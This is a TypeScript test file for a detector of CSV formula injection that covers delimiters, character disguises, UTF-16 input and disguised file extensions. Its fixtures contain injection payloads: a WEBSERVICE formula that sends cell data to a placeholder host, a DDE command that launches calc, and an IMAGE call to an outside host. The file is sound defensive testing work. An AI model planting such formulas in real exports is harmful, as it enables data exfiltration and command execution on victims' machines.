import { describe, expect, it } from 'vitest';
import { decodeText, isSpreadsheetText, textFormulas } from './text-formulas';

const whats = (text: string) => textFormulas(text).map((f) => [f.line, f.field, f.findings.map((x) => x.what).join('+')]);

describe('formulas in a text result (CSV injection)', () => {
  it('finds fields Excel takes as formulas, starting with = + - or @, quoted or not', () => {
    const csv = [
      'Region,Sales,Note',
      'North,10,=WEBSERVICE("https://x.example/?d="&A2)',
      'South,-5,"+cmd|\' /C calc\'!A0"',
      'East,7,"@IMAGE(""https://x.example/p.png"")"',
      'West,3,-2+3',
    ].join('\r\n');
    expect(whats(csv)).toEqual([
      [2, 3, 'WEBSERVICE'],
      [3, 3, 'DDE'],
      [4, 3, 'IMAGE'],
    ]);
  });

  it('tries semicolons and tabs too, and reads quoted fields across line breaks', () => {
    expect(whats('a;b\n1;=WEBSERVICE("https://x.example")\n')).toEqual([[2, 2, 'WEBSERVICE']]);
    expect(whats('a\tb\n"line one\nline two"\t=IMAGE("https://x.example/i.png")\n')).toEqual([[2, 2, 'IMAGE']]);
  });

  it('undoes disguises: full-width signs and invisible characters', () => {
    expect(whats('x\n\uff1dWEB\u200bSERVICE("https://x.example")\n')).toEqual([[2, 1, 'WEBSERVICE']]);
  });

  it('leaves data alone: numbers, text that mentions a function, formulas that stay in the sheet', () => {
    expect(textFormulas('Item,Value,Note\na,-3.5,use WEBSERVICE() carefully\nb,+4,=SUM(B2:B3)\nc,@home,-\n')).toEqual([]);
  });

  it('reads UTF-16 with a byte order mark, as Excel saves "Unicode text"', () => {
    const text = 'a\tb\n1\t=WEBSERVICE("https://x.example")\n';
    const bytes = new Uint8Array(2 + text.length * 2);
    bytes.set([0xff, 0xfe]);
    for (let i = 0; i < text.length; i++) bytes[2 + 2 * i] = text.charCodeAt(i);
    expect(whats(decodeText(bytes.buffer))).toEqual([[2, 2, 'WEBSERVICE']]);
  });

  it('knows the text files Excel opens, whatever trailing spaces or dots hide the extension', () => {
    expect(['a.csv', 'A.CSV ', 'b.tsv.', 'c.txt', 'd.prn'].every(isSpreadsheetText)).toBe(true);
    expect(['a.json', 'a.csv.gz', 'csv'].some(isSpreadsheetText)).toBe(false);
  });
});
